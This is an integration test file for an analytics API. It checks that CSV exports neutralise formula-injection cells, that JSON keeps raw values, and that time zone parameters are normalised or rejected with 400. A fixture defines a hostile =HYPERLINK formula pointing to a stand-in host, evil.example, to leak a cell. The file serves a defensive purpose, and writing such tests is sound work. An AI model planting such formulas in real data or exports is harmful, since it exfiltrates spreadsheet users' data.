import { createTestSchema, type TestSchema } from '@shoplens/stack/testing';
import { createWarehouse, replaceDay, type Database } from '@shoplens/storage';
import type { Kysely } from 'kysely';
import { getJson, serveApp, type TestServer } from '../testing/api-server.spec-helper.js';
import { migrateTestSchema } from '../testing/migrate-test-schema.spec-helper.js';

const NOW = Date.parse('2026-03-10T12:00:00Z');
// Category names as a hostile catalog could send them: each would run as a formula in a
// spreadsheet that opened the export unchanged.
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

describe('CSV exports and time zone spellings, against PostgreSQL', () => {
  let schema: TestSchema;
  let db: Kysely<Database>;
  let server: TestServer;

  beforeAll(async () => {
    schema = await createTestSchema('api_csv');
    db = createWarehouse(schema.url);
    await migrateTestSchema(db);
    const run = (id: string) => ({
      run_id: id,
      started_at: new Date(NOW - 3_600_000),
      finished_at: new Date(NOW - 3_500_000),
      status: 'succeeded' as const,
    });
    await replaceDay(db, {
      day: '2026-03-01',
      tz: 'UTC',
      tables: {
        kpi_revenue_by_category: [
          { category: HOSTILE, currency: 'EUR', gross_cents: 500, orders: 1, units: 2 },
          { category: '@SUM(1+1)', currency: 'EUR', gross_cents: 100, orders: 1, units: 1 },
          { category: '-cheap', currency: 'EUR', gross_cents: 50, orders: 1, units: 1 },
          { category: 'books', currency: 'EUR', gross_cents: 900, orders: 2, units: 3 },
        ],
        // Refunds of earlier orders beyond the day's gross: a negative net.
        kpi_revenue_daily: [
          {
            currency: 'EUR',
            orders: 1,
            gross_cents: 500,
            refund_cents: 1250,
            net_cents: -750,
            aov_cents: 500,
          },
        ],
      },
      run: run('utc'),
    });
    await replaceDay(db, {
      day: '2026-03-01',
      tz: 'Europe/Berlin',
      tables: { kpi_daily_active_users: [{ users: 99 }] },
      run: run('berlin'),
    });
    server = await serveApp(db, { now: () => NOW });
  });

  afterAll(async () => {
    await server.close();
    await db.destroy();
    await schema.drop();
  });

  const get = (path: string, headers?: Record<string, string>) =>
    getJson(`${server.url}${path}`, headers);

  it('neutralises text cells that start like a formula, and keeps numbers numbers', async () => {
    const categories = await get(
      '/api/kpis/revenue-by-category?from=2026-03-01&to=2026-03-01&format=csv',
    );
    expect(categories.status).toBe(200);
    expect(categories.text).toBe(
      [
        'day,tz,category,currency,gross_cents,orders,units',
        `2026-03-01,UTC,"'-cheap",EUR,50,1,1`,
        `2026-03-01,UTC,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",EUR,500,1,2`,
        `2026-03-01,UTC,"'@SUM(1+1)",EUR,100,1,1`,
        '2026-03-01,UTC,books,EUR,900,2,3',
        '',
      ].join('\r\n'),
    );
    const daily = await get('/api/kpis/revenue-daily?from=2026-03-01&to=2026-03-01&format=csv');
    expect(daily.text.split('\r\n')[1]).toBe('2026-03-01,UTC,EUR,1,500,1250,-750,500');
    // JSON carries the names as they are: only the spreadsheet format needs the guard.
    const json = await get('/api/kpis/revenue-by-category?from=2026-03-01&to=2026-03-01');
    expect((json.body?.['data'] as { category: string }[]).map((r) => r.category)).toContain(
      HOSTILE,
    );
  });

  it.each(['Europe/Berlin', 'europe/berlin', 'EUROPE/BERLIN'])(
    'reads the rows of Europe/Berlin for tz=%s, as one cached answer',
    async (tz) => {
      const res = await get(`/api/kpis/daily-active-users?from=2026-03-01&to=2026-03-01&tz=${tz}`);
      expect(res.status).toBe(200);
      expect(res.body).toEqual({
        data: [{ day: '2026-03-01', tz: 'Europe/Berlin', users: 99 }],
        meta: { tz: 'Europe/Berlin', from: '2026-03-01', to: '2026-03-01' },
      });
      const canonical = await get(
        '/api/kpis/daily-active-users?from=2026-03-01&to=2026-03-01&tz=Europe/Berlin',
      );
      expect(res.headers.get('etag')).toBe(canonical.headers.get('etag'));
    },
  );

  it('reads UTC for Etc/UTC and utc, and refuses what is not a zone with 400', async () => {
    for (const tz of ['Etc/UTC', 'utc', 'GMT']) {
      const res = await get(`/api/kpis/revenue-daily?from=2026-03-01&to=2026-03-01&tz=${tz}`);
      expect(res.body?.['meta']).toMatchObject({ tz: 'UTC' });
    }
    const bad = await get(
      '/api/kpis/daily-active-users?from=2026-03-01&to=2026-03-01&tz=Europe/Atlantis',
    );
    expect(bad.status).toBe(400);
    expect(bad.body).toEqual({
      error: {
        code: 'invalid_parameter',
        message: 'query parameter "tz" is not an IANA time zone: "Europe/Atlantis"',
      },
    });
  });
});
